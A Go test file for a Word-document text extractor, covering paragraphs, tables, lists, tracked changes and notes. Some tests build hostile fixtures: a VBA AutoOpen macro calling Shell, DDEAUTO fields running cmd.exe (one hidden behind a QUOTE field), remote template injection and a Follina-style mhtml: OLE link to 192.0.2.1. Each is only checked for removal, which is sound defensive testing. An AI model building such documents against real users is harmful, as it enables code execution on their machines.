package office

import (
	"context"
	"testing"
)

const numberingXML = xmlHeader + `<w:numbering ` + nsWordML + `>
<w:abstractNum w:abstractNumId="0">
 <w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="decimal"/><w:lvlText w:val="%1."/></w:lvl>
 <w:lvl w:ilvl="1"><w:start w:val="1"/><w:numFmt w:val="lowerLetter"/><w:lvlText w:val="%2)"/></w:lvl>
</w:abstractNum>
<w:abstractNum w:abstractNumId="1">
 <w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="bullet"/><w:lvlText w:val="` + "\uF0B7" + `"/></w:lvl>
</w:abstractNum>
<w:abstractNum w:abstractNumId="2">
 <w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="decimalEnclosedCircle"/><w:lvlText w:val="%1"/></w:lvl>
</w:abstractNum>
<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>
<w:num w:numId="2"><w:abstractNumId w:val="1"/></w:num>
<w:num w:numId="3"><w:abstractNumId w:val="2"/></w:num>
</w:numbering>`

func numbered(numID, ilvl, text string) string {
	return `<w:p><w:pPr><w:numPr><w:ilvl w:val="` + ilvl + `"/><w:numId w:val="` + numID + `"/></w:numPr></w:pPr><w:r><w:t>` + text + `</w:t></w:r></w:p>`
}

// TestDocx covers the text a Word document shows: paragraphs, runs, tabs
// and breaks, a table, lists, tracked changes, hidden text, a field, a
// text box stored twice (wps and VML), headers, footers, footnotes,
// endnotes and comments.
func TestDocx(t *testing.T) {
	body := `<w:p><w:pPr><w:pStyle w:val="Title"/><w:rPr><w:vanish/></w:rPr></w:pPr><w:r><w:t>見積書</w:t></w:r></w:p>` +
		`<w:p><w:r><w:t xml:space="preserve">お世話になっております。</w:t></w:r><w:r><w:t>①㈱</w:t></w:r>` +
		`<w:r><w:rPr><w:vertAlign w:val="superscript"/></w:rPr><w:footnoteReference w:id="2"/></w:r>` +
		`<w:commentRangeStart w:id="0"/><w:r><w:t>注</w:t></w:r><w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r>` +
		`<w:r><w:endnoteReference w:id="1"/></w:r></w:p>` +
		`<w:p/><w:p/><w:p/>` +
		`<w:p><w:pPr><w:tabs><w:tab w:val="left" w:pos="840"/></w:tabs></w:pPr><w:r><w:t>A</w:t><w:tab/><w:t>B</w:t><w:br/><w:t>C</w:t></w:r></w:p>` +
		`<w:tbl><w:tblPr/><w:tblGrid><w:gridCol/></w:tblGrid>` +
		`<w:tr><w:tc><w:p><w:r><w:t>品名</w:t></w:r></w:p></w:tc><w:tc><w:p/></w:tc><w:tc><w:p><w:r><w:t>金額</w:t></w:r></w:p></w:tc></w:tr>` +
		`<w:tr><w:tc><w:p><w:r><w:t>りんご</w:t></w:r></w:p><w:p><w:r><w:t>（青森）</w:t></w:r></w:p></w:tc><w:tc><w:p/></w:tc><w:tc><w:p><w:r><w:t>1,000</w:t></w:r></w:p></w:tc></w:tr>` +
		`<w:tr><w:tc><w:tbl><w:tr><w:tc>` + wp("入れ子") + `</w:tc><w:tc>` + wp("表") + `</w:tc></w:tr></w:tbl><w:p/></w:tc><w:tc>` + wp("外") + `</w:tc></w:tr>` +
		`</w:tbl>` +
		numbered("1", "0", "first") + numbered("1", "0", "second") + numbered("1", "1", "sub") + numbered("1", "0", "third") +
		numbered("2", "0", "bullet") + numbered("3", "0", "丸数字") +
		`<w:p><w:r><w:t>kept</w:t></w:r><w:del w:id="1" w:author="x"><w:r><w:delText>deleted</w:delText></w:r></w:del>` +
		`<w:ins w:id="2" w:author="x"><w:r><w:t xml:space="preserve"> inserted</w:t></w:r></w:ins>` +
		`<w:moveFrom><w:r><w:t>moved away</w:t></w:r></w:moveFrom></w:p>` +
		`<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>hidden</w:t></w:r><w:r><w:rPr><w:vanish w:val="0"/></w:rPr><w:t>visible</w:t></w:r></w:p>` +
		`<w:p><w:r><w:t xml:space="preserve">Page </w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> PAGE \* MERGEFORMAT </w:instrText></w:r>` +
		`<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>7</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>` +
		`<w:fldSimple w:instr=" NUMPAGES "><w:r><w:t>/9</w:t></w:r></w:fldSimple></w:p>` +
		`<w:p><w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing><wps:wsp><wps:txbx><w:txbxContent>` + wp("箱の中") + `</w:txbxContent></wps:txbx></wps:wsp></w:drawing></mc:Choice>` +
		`<mc:Fallback><w:pict><v:shape><v:textbox><w:txbxContent>` + wp("箱の中") + `</w:txbxContent></v:textbox></v:shape></w:pict></mc:Fallback></mc:AlternateContent></w:r>` +
		`<w:r><w:t>anchor</w:t></w:r></w:p>` +
		`<w:p><w:r><w:ruby><w:rubyPr><w:rubyAlign w:val="distributeSpace"/></w:rubyPr><w:rt><w:r><w:t>かんじ</w:t></w:r></w:rt><w:rubyBase><w:r><w:t>漢字</w:t></w:r></w:rubyBase></w:ruby></w:r></w:p>` +
		`<w:sectPr><w:headerReference w:type="default" r:id="rIdH1"/><w:headerReference w:type="first" r:id="rIdH2"/><w:footerReference w:type="default" r:id="rIdF1"/></w:sectPr>`
	hdr := func(name, text string) part {
		return part{name, xmlHeader + `<w:hdr ` + nsWordML + `>` + wp(text) + `</w:hdr>`}
	}
	data := wordDoc(t, ctDocx, body,
		[]string{
			"rIdN numbering numbering.xml", "rIdH1 header header1.xml", "rIdH2 header header2.xml",
			"rIdF1 footer footer1.xml", "rIdFn footnotes footnotes.xml", "rIdEn endnotes endnotes.xml",
			"rIdC comments comments.xml", "rIdL hyperlink https://example.jp/ External",
		},
		part{"word/numbering.xml", numberingXML},
		hdr("word/header1.xml", "株式会社サンプル"),
		hdr("word/header2.xml", "株式会社サンプル"),
		part{"word/footer1.xml", xmlHeader + `<w:ftr ` + nsWordML + `>` + wp("社外秘") + `</w:ftr>`},
		part{"word/footnotes.xml", xmlHeader + `<w:footnotes ` + nsWordML + `>` +
			`<w:footnote w:type="separator" w:id="-1"><w:p><w:r><w:separator/></w:r></w:p></w:footnote>` +
			`<w:footnote w:type="continuationSeparator" w:id="0"><w:p><w:r><w:continuationSeparator/></w:r></w:p></w:footnote>` +
			`<w:footnote w:id="2"><w:p><w:r><w:footnoteRef/></w:r><w:r><w:t xml:space="preserve"> 脚注です。</w:t></w:r></w:p></w:footnote>` +
			`<w:footnote w:id="3"><w:p><w:r><w:t>unreferenced</w:t></w:r></w:p></w:footnote></w:footnotes>`},
		part{"word/endnotes.xml", xmlHeader + `<w:endnotes ` + nsWordML + `><w:endnote w:id="1"><w:p><w:r><w:endnoteRef/></w:r><w:r><w:t>文末脚注</w:t></w:r></w:p></w:endnote></w:endnotes>`},
		part{"word/comments.xml", xmlHeader + `<w:comments ` + nsWordML + `><w:comment w:id="0" w:author="山田 太郎" w:initials="YT">` +
			`<w:p><w:r><w:annotationRef/></w:r><w:r><w:t>確認してください。</w:t></w:r></w:p><w:p><w:r><w:t>二行目</w:t></w:r></w:p></w:comment></w:comments>`},
	)
	if k := Detect(data); k != KindDOCX {
		t.Fatalf("Detect = %q", k)
	}
	res := extract(t, data)
	checkText(t, res.Text, `見積書
お世話になっております。①㈱[1]注[i]

A	B
C
品名 | 金額
りんご （青森） | 1,000
入れ子 | 表 | 外
1. first
2. second
  a) sub
3. third
• bullet
① 丸数字
kept inserted
visible
Page 7/9
箱の中
anchor
漢字(かんじ)

--- headers ---
株式会社サンプル

--- footers ---
社外秘

--- footnotes ---
[1] 脚注です。

--- endnotes ---
[i] 文末脚注

--- comments ---
山田 太郎: 確認してください。
二行目
`)
	checkRemoved(t, res.Removed)
	if res.Truncated {
		t.Error("Truncated")
	}
}

// TestDocxMainPartFromRels: the main part is wherever _rels/.rels says,
// not word/document.xml.
func TestDocxMainPartFromRels(t *testing.T) {
	data := makeZip(t,
		contentTypes("custom/main.xml", ctDocx),
		rels("_rels/.rels", "rId1 officeDocument /custom/main.xml"),
		part{"custom/main.xml", `<w:document ` + nsWordML + `><w:body>` + wp("本文") + `</w:body></w:document>`},
		part{"word/document.xml", `<w:document ` + nsWordML + `><w:body>` + wp("decoy") + `</w:body></w:document>`},
	)
	if k := Detect(data); k != KindDOCX {
		t.Fatalf("Detect = %q", k)
	}
	checkText(t, extract(t, data).Text, "本文\n")
}

// TestDocxStrict reads ISO/IEC 29500 Strict namespaces.
func TestDocxStrict(t *testing.T) {
	const strictNS = `xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"`
	data := makeZip(t,
		contentTypes("word/document.xml", ctDocx),
		part{"_rels/.rels", `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument" Target="word/document.xml"/></Relationships>`},
		part{"word/document.xml", `<w:document ` + strictNS + `><w:body><w:p><w:r><w:t>厳格</w:t></w:r></w:p></w:body></w:document>`},
	)
	checkText(t, extract(t, data).Text, "厳格\n")
}

// TestDocxMacro: a docm's VBA project is reported, never output.
func TestDocxMacro(t *testing.T) {
	data := wordDoc(t, ctDocm, wp("マクロ付き"),
		[]string{"rIdV http://schemas.microsoft.com/office/2006/relationships/vbaProject vbaProject.bin"},
		part{"word/vbaProject.bin", "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1 Attribute VB_Name = \"NewMacros\" Sub AutoOpen() Shell \"calc\""},
		rels("word/_rels/vbaProject.bin.rels", "rId1 http://schemas.microsoft.com/office/2006/relationships/wordVbaData vbaData.xml"),
		part{"word/vbaData.xml", `<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>`},
	)
	if k := Detect(data); k != KindDOCM {
		t.Fatalf("Detect = %q", k)
	}
	res := extract(t, data)
	checkText(t, res.Text, "マクロ付き\n")
	checkRemoved(t, res.Removed, "macro (VBA)")
}

// TestDocxExternalTemplate: remote template injection through
// settings.xml.rels (CVE-2017-0199 family).
func TestDocxExternalTemplate(t *testing.T) {
	data := wordDoc(t, ctDocx, wp("テンプレート"),
		[]string{"rIdS settings settings.xml"},
		part{"word/settings.xml", `<w:settings ` + nsWordML + `><w:attachedTemplate r:id="rId1"/></w:settings>`},
		rels("word/_rels/settings.xml.rels", "rId1 attachedTemplate http://192.0.2.1/template.dotm External"),
	)
	res := extract(t, data)
	checkText(t, res.Text, "テンプレート\n")
	checkRemoved(t, res.Removed, "external template")
}

// TestDocxDDE: DDEAUTO split over runs, and one hidden behind a QUOTE
// field in the instruction, are reported and their instructions never
// shown; the field result is.
func TestDocxDDE(t *testing.T) {
	r := func(s string) string { return `<w:r><w:instrText xml:space="preserve">` + s + `</w:instrText></w:r>` }
	fc := func(typ string) string { return `<w:r><w:fldChar w:fldCharType="` + typ + `"/></w:r>` }
	body := `<w:p>` + fc("begin") + r(" DDE") + r(`AUTO c:\\Windows\\System32\\cmd.exe "/k calc.exe" `) + fc("separate") +
		`<w:r><w:t>結果</w:t></w:r>` + fc("end") + `</w:p>`
	res := extract(t, wordDoc(t, ctDocx, body, nil))
	checkText(t, res.Text, "結果\n")
	checkRemoved(t, res.Removed, "DDE field")

	// { { QUOTE 68 68 69 } "cmd" } : the QUOTE result "DDE" is the outer
	// instruction's first word.
	body = `<w:p>` + fc("begin") + fc("begin") + r(" QUOTE 68 68 69 ") + fc("separate") + `<w:r><w:t>DDE</w:t></w:r>` + fc("end") +
		r(` "C:\\Programs\\cmd.exe" "/c calc" `) + fc("end") + `</w:p>` + wp("after")
	res = extract(t, wordDoc(t, ctDocx, body, nil))
	checkText(t, res.Text, "after\n")
	checkRemoved(t, res.Removed, "DDE field")

	res = extract(t, wordDoc(t, ctDocx, `<w:p><w:fldSimple w:instr="DDEAUTO cmd /c calc"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`, nil))
	checkText(t, res.Text, "x\n")
	checkRemoved(t, res.Removed, "DDE field")
}

// TestDocxOLE: an embedded OLE object, an ActiveX control, an external
// OLE link (the "Follina" mhtml: target), a remote image, an altChunk.
func TestDocxOLE(t *testing.T) {
	body := `<w:p><w:r><w:object><v:shape id="_x0000_i1025"><v:imagedata r:id="rIdImg"/></v:shape>` +
		`<o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" r:id="rIdOle"/></w:object></w:r></w:p>` + wp("本文")
	data := wordDoc(t, ctDocx, body,
		[]string{"rIdOle oleObject embeddings/oleObject1.bin", "rIdImg image media/image1.emf"},
		part{"word/embeddings/oleObject1.bin", "\xD0\xCF\x11\xE0 payload MZ"},
		part{"word/media/image1.emf", "emf"},
	)
	res := extract(t, data)
	checkText(t, res.Text, "本文\n")
	checkRemoved(t, res.Removed, "OLE object")

	data = wordDoc(t, ctDocx, wp("Follina")+`<w:altChunk r:id="rIdA"/>`,
		[]string{
			"rIdX oleObject mhtml:http://192.0.2.1/x.html!x-usc:http://192.0.2.1/x.html External",
			"rIdP image http://192.0.2.1/pixel.png External",
			"rIdA aFChunk chunk.html",
			"rIdC control activeX/activeX1.xml",
		},
		part{"word/chunk.html", "<html>chunk</html>"},
		part{"word/activeX/activeX1.xml", "<ax/>"},
	)
	res = extract(t, data)
	checkText(t, res.Text, "Follina\n")
	checkRemoved(t, res.Removed, "ActiveX control", "embedded file", "external link", "remote image")
}

// TestDocxTruncated: the output limit cuts the text at a character
// boundary and stops.
func TestDocxTruncated(t *testing.T) {
	body := ""
	for i := 0; i < 100; i++ {
		body += wp("あいうえお")
	}
	res, err := Extract(context.Background(), wordDoc(t, ctDocx, body, nil), KindDOCX, Limits{OutputBytes: 50})
	if err != nil {
		t.Fatal(err)
	}
	if !res.Truncated || len(res.Text) > 50 {
		t.Fatalf("Truncated=%v len=%d %q", res.Truncated, len(res.Text), res.Text)
	}
	checkText(t, res.Text, "あいうえお\nあいうえお\nあいうえお\n")
}
